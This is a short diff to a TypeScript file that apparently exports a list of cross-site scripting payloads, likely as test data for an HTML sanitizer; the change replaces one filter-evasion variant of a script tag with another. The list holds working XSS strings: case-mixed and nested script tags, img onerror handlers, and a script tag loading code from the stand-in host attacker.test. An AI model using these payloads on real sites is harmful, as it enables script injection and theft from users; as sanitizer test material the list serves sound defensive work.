@@ -8,7 +8,7 @@ export const payloads: readonly string[] = [
   "<script src=//attacker.test/x.js></script>",
   "<ScRiPt>attack()</sCrIpT >",
   "<scr<script>ipt>attack()</scr</script>ipt>",
-  "<script\u000cx>attack()</script>",
+  "<script/x>attack()</script>",
   "<!--<script>--><script>attack()</script>",
   "<img src=x onerror=attack()>",
   "<img src=x onerror=alert(1)//",
